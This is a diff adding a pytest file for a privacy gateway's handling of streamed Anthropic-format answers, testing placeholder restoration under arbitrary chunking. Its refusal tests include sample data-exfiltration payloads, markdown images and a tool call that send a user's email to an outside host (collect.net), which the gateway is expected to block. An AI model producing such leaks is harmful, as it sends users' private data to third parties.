@@ -1,0 +1,339 @@
+"""Streamed answers of the Anthropic wire: however they are cut, the client gets the same events with its own words."""
+
+import copy
+import random
+from itertools import pairwise
+from typing import Any
+
+import orjson
+import pytest
+
+from gateway.errors import Unavailable
+from gateway.ipc.messages import StreamPlan
+from gateway.models import PrivacyMode
+from gateway.pipeline.streaming import CONTENT_FILTERED, AnswerStream
+from gateway.placeholders import Placeholders, RestoreScope
+from gateway.policy import Policy
+from gateway.policy.document import GuardDocument
+from gateway.protection.protector import Protector
+from gateway.wires.anthropic_messages import WIRE
+
+type Body = dict[str, Any]
+
+MAIL, CARD, QUOTED = "anna.schmidt@acme.test", "4111 1111 1111 1111", 'Tr0ub"4dor\\9kL!'
+SIGNED = "Made1Up2" * 8 + "=="
+NOTE = {"request_id": "r"}
+GUARD = GuardDocument()
+SNAKE = "\U0001f40d"
+
+
+class Session:
+    """The placeholders of a conversation that named all three values."""
+
+    def __init__(self, protector: Protector, policy: Policy) -> None:
+        self.placeholders = Placeholders(b"k" * 32)
+        said = f"I am {MAIL}. Card {CARD}."
+        body: Body = {"model": "m", "messages": [{"role": "user", "content": said}]}
+        protector.protect(WIRE.read(body).blocks, policy, PrivacyMode.STANDARD, self.placeholders)
+        self.placeholders.mint("PASSWORD", QUOTED)
+        self.request = orjson.dumps(body)
+        self.marks = {entry.value: entry.placeholder for entry in self.placeholders.entries()}
+
+    def write(self, text: str) -> str:
+        """Puts placeholders in the places of values, as the provider writes them."""
+        for value, placeholder in self.marks.items():
+            text = text.replace(orjson.dumps(value).decode()[1:-1], placeholder).replace(value, placeholder)
+        return text
+
+    def stream(self, **fields: Any) -> AnswerStream:
+        plan = StreamPlan(self.placeholders, RestoreScope("source"), GUARD, {}, self.request, "r", note=NOTE)
+        return AnswerStream(WIRE, plan, limit=10**7, **fields)
+
+    def restored(self, pieces: list[bytes]) -> list[tuple[str, Body]]:
+        stream = self.stream()
+        return events(b"".join([*(stream.feed(piece) for piece in pieces), stream.finish()]))
+
+
+@pytest.fixture(scope="module")
+def session(protector: Protector) -> Session:
+    from gateway.config.settings import BUILTIN_POLICIES
+    from gateway.policy import PolicyRegistry
+
+    return Session(protector, PolicyRegistry(BUILTIN_POLICIES).get("default"))
+
+
+def event(kind: str, **fields: Any) -> Body:
+    return {"type": kind, **fields}
+
+
+def events(data: bytes) -> list[tuple[str, Body]]:
+    """The names and bodies of all events."""
+    found = []
+    for raw in data.decode().split("\n\n")[:-1]:
+        lines = dict(line.split(": ", 1) for line in raw.split("\n") if not line.startswith(":"))
+        if lines:
+            found.append((lines["event"], orjson.loads(lines["data"])))
+    return found
+
+
+def sse(*bodies: Body) -> bytes:
+    return b"".join(b"event: %s\ndata: %s\n\n" % (each["type"].encode(), orjson.dumps(each)) for each in bodies)
+
+
+def start(**fields: Any) -> Body:
+    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-x", "content": []}
+    usage = {"input_tokens": 5, "cache_read_input_tokens": 20, "output_tokens": 1}
+    return event("message_start", message={**message, "stop_reason": None, "usage": usage, **fields})
+
+
+def block(index: int, begin: Body, *deltas: Body) -> list[Body]:
+    grown = [event("content_block_delta", index=index, delta=delta) for delta in deltas]
+    return [
+        event("content_block_start", index=index, content_block=begin),
+        *grown,
+        event("content_block_stop", index=index),
+    ]
+
+
+def in_pieces(kind: str, member: str, text: str, size: int = 3) -> list[Body]:
+    return [{"type": kind, member: text[at : at + size]} for at in range(0, len(text), size)]
+
+
+def end(reason: str = "end_turn") -> list[Body]:
+    delta = {"stop_reason": reason, "stop_sequence": None}
+    return [event("message_delta", delta=delta, usage={"output_tokens": 42}), event("message_stop")]
+
+
+THINKING = f"The user {MAIL} wants it."
+TEXT = f"Dear {MAIL},\nyour card {CARD} \u2013 gr\u00fc\u00dfe {SNAKE} [not one] is kept."
+CITED = {"type": "char_location", "cited_text": f"card {CARD}", "document_index": 0, "document_title": None}
+INPUT = {"to": MAIL, "note": f"a\n{SNAKE} {QUOTED}", "n": [1, {"card": CARD}]}
+
+
+def answer(session: Session, size: int = 3) -> list[Body]:
+    """An answer with every kind of event, in deltas of a size. The provider writes placeholders."""
+    arguments = session.write(orjson.dumps(INPUT).decode())
+    return [
+        start(),
+        event("ping"),
+        *block(
+            0,
+            {"type": "thinking", "thinking": "", "signature": ""},
+            *in_pieces("thinking_delta", "thinking", session.write(THINKING), size),
+            {"type": "signature_delta", "signature": SIGNED},
+        ),
+        *block(1, {"type": "redacted_thinking", "data": SIGNED}),
+        *block(
+            2,
+            {"type": "text", "text": ""},
+            *in_pieces("text_delta", "text", session.write(TEXT), size),
+            {"type": "citations_delta", "citation": {**CITED, "cited_text": session.write(CITED["cited_text"])}},
+        ),
+        *block(
+            3,
+            {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {}},
+            {"type": "input_json_delta", "partial_json": ""},
+            *in_pieces("input_json_delta", "partial_json", session.write(f'{{"query":"{MAIL}"}}'), size),
+        ),
+        *block(
+            4,
+            {
+                "type": "web_search_tool_result",
+                "tool_use_id": "srvtoolu_1",
+                "content": [{"type": "web_search_result", "title": session.write(MAIL), "encrypted_content": SIGNED}],
+            },
+        ),
+        *block(
+            5,
+            {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}},
+            *in_pieces("input_json_delta", "partial_json", arguments, size),
+        ),
+        *end("tool_use"),
+    ]
+
+
+def message(found: list[tuple[str, Body]]) -> Body:
+    """Puts a message together as the SDKs do. Every event has the name of its type, and blocks are in order."""
+    result: Body = {"content": [], "json": {}, "svc": None, "open": None}
+    for name, body in copy.deepcopy(found):
+        assert name == body["type"]
+        at = body.get("index")
+        match name:
+            case "message_start":
+                result |= body["message"]
+            case "content_block_start":
+                assert (at, result["open"]) == (len(result["content"]), None)
+                result["content"].append(body["content_block"])
+                result["open"] = at
+            case "content_block_delta":
+                assert at == result["open"]
+                _grow(result, at, body["delta"])
+            case "content_block_stop":
+                assert at == result["open"]
+                result["open"] = None
+            case "message_delta":
+                result |= {"stop_reason": body["delta"]["stop_reason"]}
+        result["svc"] = body.get("svc", result["svc"])
+    return result
+
+
+def _grow(result: Body, at: int, delta: Body) -> None:
+    grown = result["content"][at]
+    for member, value in delta.items():
+        if member == "partial_json":
+            result["json"][at] = result["json"].get(at, "") + value
+        elif member == "citation":
+            grown.setdefault("citations", []).append(value)
+        elif member != "type":
+            grown[member] = grown.get(member, "") + value
+
+
+def check(session: Session, found: list[tuple[str, Body]]) -> None:
+    got = message(found)
+    thinking, redacted, text, search, results, send = got["content"]
+    assert thinking == {"type": "thinking", "thinking": session.write(THINKING), "signature": SIGNED}
+    assert redacted == {"type": "redacted_thinking", "data": SIGNED}
+    assert text == {"type": "text", "text": TEXT, "citations": [CITED]}
+    assert (search["name"], orjson.loads(got["json"][3])) == ("web_search", {"query": MAIL})
+    assert results["content"] == [{"type": "web_search_result", "title": MAIL, "encrypted_content": SIGNED}]
+    assert (send["name"], orjson.loads(got["json"][5])) == ("send", INPUT)
+    assert (got["stop_reason"], got["open"]) == ("tool_use", None)
+    assert got["svc"] == {**NOTE, "guard": {"action": "pass"}}
+    assert found[-1][0] == "message_stop"
+
+
+def test_an_answer_at_once(session: Session) -> None:
+    stream = session.stream()
+    check(session, events(stream.feed(sse(*answer(session))) + stream.finish()))
+    end = stream.result(200)
+    assert (end.outcome, end.tokens) == ("answered", (25, 42))
+
+
+def test_an_answer_cut_at_every_byte(session: Session) -> None:
+    data = sse(*answer(session))
+    whole = session.restored([data])
+    check(session, whole)
+    assert session.restored([data[at : at + 1] for at in range(len(data))]) == whole
+    in_two(session, 11)
+
+
+def in_two(session: Session, step: int) -> None:
+    data = sse(*answer(session, 30))
+    for at in range(1, len(data), step):
+        check(session, session.restored([data[:at], data[at:]]))
+
+
+def in_chunks(session: Session, times: int) -> None:
+    chance = random.Random(14)
+    data = [sse(*answer(session, size)).replace(b"event: ping", b": a comment\n\nevent: ping") for size in (2, 7, 30)]
+    for _ in range(times):
+        one = chance.choice(data)
+        cuts = sorted({0, len(one), *(chance.randrange(len(one)) for _ in range(chance.choice((2, 9, 60))))})
+        check(session, session.restored([one[a:b] for a, b in pairwise(cuts)]))
+
+
+def test_answers_in_random_chunks(session: Session) -> None:
+    in_chunks(session, 100)
+
+
+@pytest.mark.slow
+def test_answers_in_ten_thousand_random_chunkings(session: Session) -> None:
+    in_two(session, 1)
+    in_chunks(session, 10_000)
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 10**6])
+def test_the_sizes_of_deltas_change_nothing(session: Session, size: int) -> None:
+    arguments = session.write(orjson.dumps(INPUT).decode())
+    begin = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}
+    text = block(0, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(TEXT), size))
+    call = block(1, begin, *in_pieces("input_json_delta", "partial_json", arguments, size))
+    got = message(session.restored([sse(start(), *text, *call, *end())]))
+    assert got["content"][0]["text"] == TEXT
+    assert orjson.loads(got["json"][1]) == INPUT
+
+
+def test_a_text_that_begins_with_its_block_goes_on(session: Session) -> None:
+    whole = session.write(f"To {MAIL}")
+    begin = {"type": "text", "text": whole[:9]}
+    got = message(
+        session.restored([sse(start(), *block(0, begin, *in_pieces("text_delta", "text", whole[9:])), *end())])
+    )
+    assert got["content"] == [{"type": "text", "text": f"To {MAIL}"}]
+
+
+def test_what_is_still_held_comes_before_the_end_of_its_block(session: Session) -> None:
+    got = session.restored([sse(start(), *block(0, {"type": "text", "text": "A ["}), *end())])
+    assert [name for name, _ in got[1:5]] == [
+        "content_block_start",
+        "content_block_delta",
+        "content_block_stop",
+        "message_delta",
+    ]
+    assert message(got)["content"][0]["text"] == "A ["
+
+
+def test_an_error_of_the_provider_passes(session: Session) -> None:
+    failed = event("error", error={"type": "overloaded_error", "message": "Overloaded"}, request_id="req_1")
+    begin = event("content_block_start", index=0, content_block={"type": "text", "text": "A ["})
+    got = session.restored([sse(start(), begin, failed)])
+    assert got[-1] == ("error", failed)
+    assert message(got)["content"][0]["text"] == "A ["
+
+
+def test_the_gateways_errors_have_the_shape_of_the_providers(session: Session) -> None:
+    got = session.restored([sse(start()) + b"event: message_stop\ndata: {broken\n\n"])
+    assert got[-1][0] == "error"
+    assert got[-1][1]["error"]["type"] == "api_error"
+    shown = WIRE.stream.error(Unavailable("Later.", code="overloaded"), "r")
+    assert shown == WIRE.error_body(Unavailable("Later.", code="overloaded"), "r")
+
+
+class TestRefusals:
+    """What the policy withholds ends the message in order, wherever that happens."""
+
+    @pytest.fixture(autouse=True)
+    def _strict(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        rules = GuardDocument(placeholder_in_url="replace", unknown_placeholder="replace")
+        monkeypatch.setattr("tests.gateway.wires.test_anthropic_streams.GUARD", rules)
+
+    def ended(self, session: Session, *bodies: Body) -> list[Body]:
+        got = message(session.restored([sse(*bodies)]))
+        assert got["stop_reason"] == "refusal"
+        assert got["open"] is None
+        assert got["content"][-1] == {"type": "text", "text": CONTENT_FILTERED}
+        content: list[Body] = got["content"]
+        return content
+
+    def test_in_a_text(self, session: Session) -> None:
+        leak = session.write(f"See ![x](https://collect.net/?q={MAIL}) now.\n\nMore.")
+        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Fine.\n"})
+        content = self.ended(
+            session,
+            start(),
+            *first,
+            *block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", leak)),
+            *end(),
+        )
+        assert len(content) == 3
+        assert content[0]["text"] == "Fine.\n"
+        assert MAIL not in content[1]["text"]
+
+    def test_in_a_call(self, session: Session) -> None:
+        leak = session.write(orjson.dumps({"url": "https://collect.net/", "body": MAIL}).decode())
+        begin = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}
+        call = block(0, begin, *in_pieces("input_json_delta", "partial_json", leak))
+        assert len(self.ended(session, start(), *call, *end("tool_use"))) == 2
+
+    def test_in_a_block_that_comes_at_once(self, session: Session) -> None:
+        leak = session.write(f"![x](https://collect.net/?q={MAIL})")
+        begin = {"type": "web_fetch_tool_result", "content": {"type": "web_fetch_result", "text": leak}}
+        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Fine."})
+        content = self.ended(session, start(), *first, *block(1, begin), *end())
+        assert [each["type"] for each in content] == ["text", "text"]
+
+    def test_before_anything(self, session: Session) -> None:
+        leak = session.write(f"![x](https://collect.net/?q={MAIL})")
+        content = self.ended(session, start(note=leak), *end())
+        assert len(content) == 1
+        assert message(session.restored([sse(start(note=leak))]))["id"] == "msg_1"
